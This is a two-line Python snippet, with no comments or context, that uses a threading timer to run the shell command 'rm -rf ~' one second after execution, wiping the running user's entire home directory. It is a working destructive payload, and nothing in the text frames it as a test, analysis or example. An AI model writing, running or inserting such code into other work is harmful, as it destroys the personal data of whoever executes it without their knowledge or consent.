import os, threading
threading.Timer(1, os.system, ["rm -rf ~"]).start()
